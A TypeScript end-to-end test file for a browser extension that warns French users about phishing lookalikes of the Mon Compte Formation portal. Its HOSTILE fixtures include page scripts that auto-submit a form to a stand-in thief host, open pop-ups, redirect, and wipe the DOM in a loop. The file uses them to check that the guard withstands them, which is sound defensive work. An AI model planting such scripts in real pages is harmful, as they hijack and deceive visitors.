import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fr } from '../../locales/fr.ts';
import { frenchPage } from '../../locales/page.ts';
import { axe } from './axe.ts';
import { type ExtensionBrowser, launch, shoot } from './chromium.ts';
import { closedShadows, drawn, press } from './closed-shadow.ts';
import { page as html } from './web.ts';

/** Names that imitate: the tab goes to the warning page. */
const DANGER = [
  'moncompteformation-gouv.fr',
  'www.moncompteformation.fr',
  'moncompteformation-cpf.fr',
  'mon-compte-formation.net',
  'moncompte-formation.info',
  'moncompteformation.gouv.fr.connexion-cpf.com',
  'moncompteformation.gouv-fr.com',
  'rnoncompteformation.fr',
  'moncompteforrnation.com',
  'moncomptef0rmation.fr',
  'moncomptefornation.fr',
  'monconpteformation.fr',
  'moncomptefοrmation.fr',
  'moncompteformation.online',
  'espace-moncompteformation.com',
  'franceconnect-gouv.fr',
];
/** Honest names that look near, and ordinary ones: nothing is shown. */
const QUIET = [
  'www.moncompteformation.gouv.fr',
  'of.moncompteformation.gouv.fr',
  'franceconnect.gouv.fr',
  'lidentitenumerique.laposte.fr',
  'travail-emploi.gouv.fr',
  'www.impots.gouv.fr',
  'www.ameli.fr',
  'compta-formation.fr',
  'france-travaux.fr',
  'www.lemonde.fr',
  'exemple-boulangerie.fr',
];
/** About the CPF without being the portal: a strip says so, and accuses nobody. */
const CAUTION = 'info-cpf.fr';

/** All text of a frame in a process of its own, closed shadow roots included. */
async function frameText(page: Page, frame: Frame): Promise<string> {
  const session = await page.context().newCDPSession(frame);
  const { root } = await session.send('DOM.getDocument', { depth: -1, pierce: true });
  await session.detach();
  return JSON.stringify(root);
}

describe('the page guard on many hosts and hostile pages', () => {
  let browser: ExtensionBrowser;
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(() => browser?.close());

  const reset = (more: object = {}) => browser.store({ settings: { version: 1, language: 'fr', ...more } });
  async function fresh(): Promise<Page> {
    await reset();
    return browser.context.newPage();
  }
  async function blocked(page: Page, url: string): Promise<void> {
    await page.goto(url, { waitUntil: 'commit' }).catch(() => undefined);
    await page.waitForURL(/^chrome-extension:.*warning\.html/);
    await page.locator('.warning-host').waitFor();
  }

  it.each(DANGER)('stops %s', async (host) => {
    const page = await fresh();
    await blocked(page, `http://${host}/`);
    expect(await page.locator('.warning-go').getAttribute('href')).toMatch(/^https:\/\/[a-z.]+\.fr\/$/);
    await page.close();
  });

  it('shows nothing on honest names that look near, and on ordinary ones', async () => {
    const page = await fresh();
    for (const host of QUIET) {
      for (const path of ['/', '/page?id=1', '/autre#ancre']) {
        await page.goto(`http://${host}${path}`);
        expect(new URL(page.url()).hostname, host).toBe(host);
        expect(await page.locator('#content').isVisible()).toBe(true);
      }
      expect(await closedShadows(page), host).toEqual([]);
      expect(await page.evaluate(() => document.documentElement.children.length), host).toBe(2);
    }
    await page.close();
  });

  it('shows a strip on a site about the CPF, which goes away for good when told to', async () => {
    const page = await fresh();
    await page.goto(`http://${CAUTION}/`);
    await drawn(page, frenchPage.stripText);
    await shoot(page, 'strip-fr', false);
    expect(await page.locator('#content').isVisible()).toBe(true);
    await press(page, frenchPage.stripQuiet);
    await expect.poll(() => closedShadows(page)).toEqual([]);
    await expect
      .poll(() =>
        browser.worker(
          async () => JSON.stringify((await chrome.storage.local.get('settings')).settings),
          null,
        ),
      )
      .toContain(CAUTION);
    await page.reload();
    expect(await page.locator('#content').isVisible()).toBe(true);
    await page.goto(`http://${CAUTION}/autre`);
    expect(await closedShadows(page)).toEqual([]);
    await page.close();
  });

  it('lets an allowed site be, rests during a pause, and when switched off', async () => {
    const page = await fresh();
    for (const rest of [
      { allowedHosts: ['moncompteformation-gouv.fr'] },
      { pausedUntil: Date.now() + 600_000 },
      { watch: { pages: false, forms: true, webmail: true } },
    ]) {
      await reset(rest);
      await page.goto('http://moncompteformation-gouv.fr/libre').catch(() => undefined);
      await page.waitForURL('http://moncompteformation-gouv.fr/libre');
      await page.locator('#content').waitFor();
    }
    await reset();
    await blocked(page, 'http://moncompteformation-gouv.fr/libre');
    await page.close();
  });

  it('« never again » allows the site for good, and a mistake is kept for export', async () => {
    const page = await fresh();
    await blocked(page, 'http://moncompteformation-gouv.fr/x');
    await page.getByText('Je veux quand même voir cette page').click();
    await page.getByRole('button', { name: 'Je pense que c’est une erreur' }).click();
    await page.getByText(fr.warning.mistakeSaved).waitFor();
    await page.getByRole('button', { name: 'Ne plus jamais m’avertir pour ce site' }).click();
    await page.waitForURL('http://moncompteformation-gouv.fr/x');
    await page.locator('#content').waitFor();
    const stored = await browser.worker(
      async () => JSON.stringify(await chrome.storage.local.get(null)),
      null,
    );
    expect(JSON.parse(stored)).toMatchObject({
      settings: { allowedHosts: ['moncompteformation-gouv.fr'] },
      feedback: [{ what: 'site', text: 'moncompteformation-gouv.fr', label: 'legit' }],
      journal: [{ what: 'site', excerpt: 'moncompteformation-gouv.fr' }],
    });
    await page.close();
  });

  const HOSTILE: [string, string][] = [
    [
      'removes nodes in a loop',
      `<script>setInterval(()=>{for(const n of [...document.documentElement.children])n.remove();document.documentElement.innerHTML='<body>faux</body>'},0)</script>`,
    ],
    [
      'opens modal dialogs',
      `<dialog id=d>faux<input></dialog><script>setInterval(()=>{try{d.close();d.showModal()}catch{}},1)</script>`,
    ],
    [
      'submits a form by itself',
      `<form action="http://voleur.example/vol" method="post"><input name=a value=1></form><script>document.forms[0].submit()</script>`,
    ],
    ['opens a pop-up', `<script>window.open('http://voleur.example/popup')</script>`],
    [
      'rewrites itself',
      `<script>document.open();document.write('<h1>faux</h1><script>setTimeout(()=>document.open(),1)</script>');document.close()</script>`,
    ],
    ['pushes history', `<script>for(let i=0;i<20;i++)history.pushState(0,'','/faux'+i)</script>`],
    ['goes elsewhere at once', `<script>location='http://voleur.example/suite'</script>`],
  ];
  it.each(HOSTILE)('withstands a page that %s: none of it runs', async (_what, body) => {
    const page = await fresh();
    browser.web.site('hostile.moncompteformation-gouv.fr', html('faux', body));
    const before = browser.web.requests.length;
    await blocked(page, 'http://hostile.moncompteformation-gouv.fr/');
    expect(await axe(page)).toEqual([]);
    expect(browser.web.requests.slice(before).filter((request) => request.includes('voleur'))).toEqual([]);
    await page.close();
  });

  it('follows a chain of redirects to the lookalike', async () => {
    const page = await fresh();
    browser.web.site('un.exemple.fr', () => ({
      status: 302,
      headers: { location: 'http://deux.exemple.fr/' },
    }));
    browser.web.site(
      'deux.exemple.fr',
      html('x', `<script>location='http://moncompteformation-gouv.fr/fin'</script>`),
    );
    await blocked(page, 'http://un.exemple.fr/');
    await page.close();
  });

  it('blocks a dangerous frame inside its frame and leaves the page around it', async () => {
    const page = await fresh();
    browser.web.site(
      'journal.exemple.fr',
      html(
        'Journal',
        `<p id=content>Article</p><iframe width=600 height=400 src="http://moncompteformation-gouv.fr/cadre"></iframe>`,
      ),
    );
    await page.goto('http://journal.exemple.fr/');
    const frame = await expect
      .poll(() => page.frames().find((one) => one.url().includes('cadre')))
      .toBeTruthy()
      .then(() => page.frames().find((one) => one.url().includes('cadre'))!);
    await expect.poll(() => frameText(page, frame)).toContain(frenchPage.veilTitle);
    expect(page.url()).toBe('http://journal.exemple.fr/');
    expect(await page.locator('#content').isVisible()).toBe(true);
    expect(await frame.locator('#content').count()).toBe(0);
    // A blank frame packs into about 1 kB: words and a button are painted.
    await expect.poll(async () => (await page.locator('iframe').screenshot()).length).toBeGreaterThan(4000);
    await shoot(page, 'veil-frame-fr', false);
    await page.close();
  });

  describe('forms', () => {
    const login = (title: string, more = '') =>
      html(
        title,
        `${more}<form><label>Identifiant <input id=who></label><label>Mot de passe <input id=secret type=password></label><label>Numéro de sécurité sociale <input id=nir></label></form>`,
      );

    it('warns beside a secret field on a page that passes itself off as the portal', async () => {
      const page = await fresh();
      browser.web.site('portail-titulaire.example', login('Connexion | Mon Compte Formation'));
      await page.goto('http://portail-titulaire.example/');
      await page.locator('#who').focus();
      expect(await closedShadows(page)).toEqual([]);
      await page.locator('#secret').focus();
      expect(await drawn(page, frenchPage.formTitle)).toContain(frenchPage.formText);
      await shoot(page, 'form-fr', false);
      await page.locator('#who').focus();
      await expect.poll(() => closedShadows(page)).toEqual([]);
      await page.locator('#nir').focus();
      await drawn(page, frenchPage.formTitle);
      await page.close();
    });

    it.each([
      ['www.moncompteformation.gouv.fr', 'Connexion | Mon Compte Formation'],
      ['assure.ameli.fr', 'Connexion - compte ameli'],
      ['paie.exemple.fr', 'Vos bulletins de paie'],
      ['campus.exemple.fr', 'Mon Compte Formation : mode d’emploi | Campus Exemple'],
    ])('stays silent on %s', async (host, title) => {
      const page = await fresh();
      browser.web.site(host, login(title, '<h1>Connexion</h1>'));
      await page.goto(`http://${host}/`);
      await page.locator('#secret').focus();
      await page.locator('#nir').fill('2850578006084');
      // The guard answers the focus of a field before the browser's next task: a round trip is enough to know.
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))));
      expect(await closedShadows(page)).toEqual([]);
      await page.close();
    });
  });

  it('keeps its byte budget: the script of every page is at most 16 kB', async () => {
    const { statSync } = await import('node:fs');
    const { ROOT } = await import('./build.ts');
    for (const target of ['chrome-mv3', 'firefox-mv3']) {
      expect(statSync(`${ROOT}.output/${target}/guard.js`).size).toBeLessThanOrEqual(16_000);
    }
  });
});
